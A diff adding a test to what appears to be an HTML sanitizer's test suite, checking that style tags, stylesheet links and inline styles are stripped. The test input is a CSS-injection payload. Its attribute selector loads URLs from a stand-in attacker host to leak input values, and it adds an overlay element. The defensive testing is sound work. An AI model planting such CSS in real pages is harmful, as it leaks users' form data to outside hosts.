@@ -156,3 +156,11 @@ def test_H23_what_looks_like_hiding_but_is_not():
 def test_H09_a_line_feed_at_the_start_of_preformatted_text_is_settled_at_once():
     clean = safe_html("<pre>\n&#13;one</pre>", BASE)
     assert safe_html(clean, BASE) == clean == "<pre>one</pre>"
+
+
+def test_H14_nothing_of_style_is_left():
+    attack = (
+        "<style>@import url(https://evil.example/x);input[value^=a]{background:url(https://evil.example/a)}</style>"
+        '<link rel=stylesheet href=//evil.example/x><p style="position:fixed;background:url(https://evil.example/b)" class="overlay">Fog.</p>'
+    )
+    assert safe_html(attack, BASE) == "<p>Fog.</p>"
